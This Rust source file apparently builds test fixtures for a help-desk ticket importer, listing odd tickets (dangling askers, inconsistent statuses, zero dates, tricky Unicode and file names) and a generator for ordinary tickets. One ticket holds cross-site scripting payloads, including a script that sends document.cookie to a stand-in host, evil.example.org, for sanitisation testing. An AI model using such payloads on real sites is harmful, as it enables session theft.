//! The odd tickets that every account has: one row for each way in which real data is strange.

use super::Dice;
use crate::world::model::ReplyType;

/// Who asked, as a place in the account's list of contacts.
#[derive(Clone, Copy)]
pub(super) enum Asker {
    Nth(usize),
    /// Nobody: id 0.
    None,
    /// An id that no contact has.
    Dangling,
    /// A contact of another account: the vendor does not check.
    Foreign,
}

/// How far a ticket is, which status and times may tell differently.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Progress {
    /// Never touched since it was made.
    New,
    Open,
    Resolved,
    Closed,
    /// Status 2, yet with the time of a solution.
    HalfResolved,
    /// Status 5 without the time of closing.
    HalfClosed,
    /// Zero dates where nothing should be.
    ZeroDates,
    Archived,
}

/// An attachment of a case.
#[derive(Clone, Copy)]
pub(super) enum Clip {
    OnTicket(&'static str),
    /// On the reply with this place.
    OnReply(usize, &'static str),
}

/// One reply of a case.
#[derive(Clone, Copy)]
pub(super) struct ReplyCase {
    pub(super) kind: ReplyType,
    pub(super) body: &'static str,
    pub(super) time: Option<&'static str>,
    pub(super) archived: bool,
    pub(super) edited: bool,
    /// Written with the zero date.
    pub(super) undated: bool,
}

pub(super) struct TicketCase {
    pub(super) subject: &'static str,
    pub(super) details: &'static str,
    pub(super) asker: Asker,
    pub(super) progress: Progress,
    pub(super) status: i32,
    pub(super) priority: Option<&'static str>,
    pub(super) category: Option<&'static str>,
    /// User id of the agent; 0 for none.
    pub(super) agent: i32,
    pub(super) source: Option<&'static str>,
    pub(super) replies: &'static [ReplyCase],
    pub(super) clips: &'static [Clip],
}

/// An agent id that no user has, and one whose owner left.
const NOBODY: i32 = 9999;
const LEFT: i32 = 5;

const fn says(kind: ReplyType, body: &'static str) -> ReplyCase {
    ReplyCase { kind, body, time: None, archived: false, edited: false, undated: false }
}

const PLAIN: TicketCase = TicketCase {
    subject: "",
    details: "",
    asker: Asker::Nth(0),
    progress: Progress::Open,
    status: 2,
    priority: Some("Low"),
    category: Some("1"),
    agent: 2,
    source: Some("Portal"),
    replies: &[],
    clips: &[],
};

use ReplyType::{Client, Internal, Public};

pub(super) const CASES: &[TicketCase] = &[
    TicketCase {
        subject: "Printer on the second floor jams",
        details: "<p>It jams on <b>every</b> second page.</p>",
        asker: Asker::Nth(3),
        priority: Some("Medium"),
        replies: &[
            says(Client, "<p>Still jamming today.</p>"),
            ReplyCase { time: Some("00:25:00"), ..says(Public, "<p>We ordered a new roller.</p>") },
            ReplyCase { time: Some("01:10:00"), ..says(Internal, "<p>Customer is impatient; lease ends in May.</p>") },
        ],
        clips: &[Clip::OnTicket("jam.jpg"), Clip::OnReply(0, "second-jam.png"), Clip::OnReply(2, "lease.pdf")],
        ..PLAIN
    },
    TicketCase {
        subject: "Cannot sign in to e-mail",
        details: "<p>Password is refused since this morning.</p>",
        asker: Asker::Nth(3),
        progress: Progress::New,
        status: 1,
        priority: Some("High"),
        category: Some("2"),
        agent: 0,
        ..PLAIN
    },
    TicketCase {
        subject: "VPN drops every hour <script>alert('subject')</script>",
        details: "<p>It drops.</p><script>fetch('https://evil.example.org/?c='+document.cookie)</script>\
                  <img src=x onerror=\"alert(1)\"><a href=\"javascript:alert(2)\">log</a>\
                  <svg onload=alert(3)></svg><p style=\"background:url(javascript:alert(4))\">end</p>",
        asker: Asker::Nth(2),
        status: 6,
        priority: Some("Medium"),
        category: Some("3"),
        agent: 3,
        replies: &[
            says(Public, "<p>Try this <iframe src=\"https://evil.example.org\"></iframe> guide.</p>"),
            says(Internal, "<p>Firmware bug, see vendor case.</p>"),
        ],
        ..PLAIN
    },
    TicketCase {
        subject: "New starter on Monday",
        details: "<ul><li>Laptop</li><li>Mailbox</li></ul>",
        asker: Asker::Nth(1),
        progress: Progress::Resolved,
        status: 4,
        category: Some(""),
        replies: &[says(Public, "<p>Everything is ready.</p>"), says(Client, "Ticket resolved by Ben Okafor.")],
        ..PLAIN
    },
    TicketCase {
        subject: "Laptop screen cracked",
        details: "<p>Dropped it, sorry.</p>",
        asker: Asker::Nth(3),
        progress: Progress::Closed,
        status: 5,
        category: Some("0"),
        agent: 3,
        replies: &[says(Public, "<p>Replaced.</p>")],
        clips: &[Clip::OnTicket("crack.heic")],
        ..PLAIN
    },
    TicketCase {
        subject: "Shared mailbox for invoices",
        details: "<p>Please add accounts@ for us.</p>",
        asker: Asker::Nth(1),
        progress: Progress::HalfResolved,
        category: None,
        replies: &[says(Client, "<p>One person is still missing.</p>")],
        ..PLAIN
    },
    TicketCase {
        subject: "Backup report shows a warning",
        details: "<p>Weekly report attached.</p>",
        asker: Asker::None,
        status: 3,
        category: Some("999"),
        agent: NOBODY,
        source: Some("Recurring"),
        replies: &[says(Internal, "<p>Disk two is failing, quote a new one.</p>")],
        ..PLAIN
    },
    TicketCase {
        subject: "Scanner 🖨️ e\u{301}teint ولا يعمل",
        details: "<p>😀 \u{202e}abc\u{202c} Zahnärzte ﷽ \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}</p>",
        asker: Asker::Nth(0),
        status: 77,
        priority: None,
        agent: LEFT,
        source: None,
        replies: &[says(Client, "<p>👍🏽</p>")],
        ..PLAIN
    },
    TicketCase {
        subject: "Firewall rule for the new line",
        details: "<p>Open 443 to the new server.</p>",
        asker: Asker::Nth(2),
        progress: Progress::HalfClosed,
        status: 5,
        priority: Some("Urgent"),
        category: Some("3"),
        source: Some("Agent"),
        ..PLAIN
    },
    TicketCase {
        subject: "Monitor flickers",
        details: "",
        asker: Asker::Nth(3),
        priority: Some("Blocker"),
        category: Some("5"),
        agent: 0,
        source: Some("API"),
        ..PLAIN
    },
    TicketCase {
        subject: "Access for an outside consultant",
        details: "<p>Asked for by somebody of another company.</p>",
        asker: Asker::Foreign,
        replies: &[says(Public, "<p>Please confirm in writing.</p>")],
        ..PLAIN
    },
    TicketCase {
        subject: "Duplicate, please ignore",
        details: "<p>Sent twice.</p>",
        asker: Asker::Nth(0),
        progress: Progress::Archived,
        replies: &[says(Public, "<p>Put away.</p>")],
        clips: &[Clip::OnTicket("twice.txt")],
        ..PLAIN
    },
    TicketCase {
        subject: "Re: Re: AW: phones",
        details: "<p>See the mail below.</p><blockquote>From: somebody</blockquote>",
        asker: Asker::Nth(0),
        category: Some("6"),
        source: Some("Email"),
        replies: &[
            says(Client, "<p>As discussed.</p>"),
            says(Internal, "<p>Mail from an unknown sender on this ticket.</p>"),
        ],
        clips: &[
            Clip::OnTicket("Original-parsed-email.eml"),
            Clip::OnReply(0, "Original-parsed-email.eml"),
            Clip::OnReply(1, "Original-parsed-email.eml"),
            Clip::OnTicket("plan \"B\" (final)/v2 ünïcode.pdf"),
        ],
        ..PLAIN
    },
    TicketCase {
        subject: "Telephone directory is out of date",
        details: "<p>Half of the names are wrong.</p>",
        asker: Asker::Nth(1),
        priority: Some("Medium"),
        replies: &[
            ReplyCase { archived: true, ..says(Public, "<p>Wrong customer, sorry.</p>") },
            ReplyCase { archived: true, ..says(Client, "<p>Taken back.</p>") },
            ReplyCase { undated: true, ..says(Public, "<p>Imported from the old system.</p>") },
            ReplyCase { edited: true, time: Some("00:00:00"), ..says(Public, "<p>Corrected list attached.</p>") },
            ReplyCase { edited: true, time: Some("02:00:00"), ..says(Internal, "<p>Bill two hours.</p>") },
        ],
        clips: &[Clip::OnReply(0, "wrong-customer.xlsx"), Clip::OnReply(3, "directory.csv")],
        ..PLAIN
    },
    TicketCase {
        subject: "Imported long ago",
        details: "<p>From the system before.</p>",
        asker: Asker::Dangling,
        progress: Progress::ZeroDates,
        category: None,
        agent: 0,
        source: Some(""),
        ..PLAIN
    },
];

const THINGS: [&str; 10] = [
    "Laptop",
    "Docking station",
    "Phone",
    "Mailbox",
    "Shared drive",
    "Tablet",
    "Badge reader",
    "Projector",
    "Router",
    "Spreadsheet",
];
const TROUBLES: [&str; 8] = [
    "does not start",
    "is very slow",
    "shows an error",
    "lost its settings",
    "needs an update",
    "asks for a password",
    "is missing",
    "makes noise",
];
const PRIORITIES: [&str; 4] = ["Low", "Medium", "High", "Urgent"];

/// What the dice make of an ordinary ticket: subject, progress, status, priority, category, agent.
pub(super) struct Ordinary {
    pub(super) subject: String,
    pub(super) progress: Progress,
    pub(super) status: i32,
    pub(super) priority: &'static str,
    pub(super) category: &'static str,
    pub(super) agent: i32,
    pub(super) asker: Asker,
    pub(super) replies: usize,
}

pub(super) fn ordinary(dice: &mut Dice) -> Ordinary {
    let subject = format!("{} {}", dice.pick(&THINGS), dice.pick(&TROUBLES));
    let (progress, status) = match dice.below(10) {
        0 => (Progress::New, 1),
        1 | 2 => (Progress::Open, 2),
        3 => (Progress::Open, 6),
        4 => (Progress::Resolved, 4),
        _ => (Progress::Closed, 5),
    };
    let asker = Asker::Nth(dice.below(4));
    let agent = if status == 1 { 0 } else { dice.pick(&[2, 3]) };
    Ordinary {
        subject,
        progress,
        status,
        priority: dice.pick(&PRIORITIES),
        category: dice.pick(&["1", "2", "3", "4"]),
        agent,
        asker,
        replies: dice.below(3),
    }
}
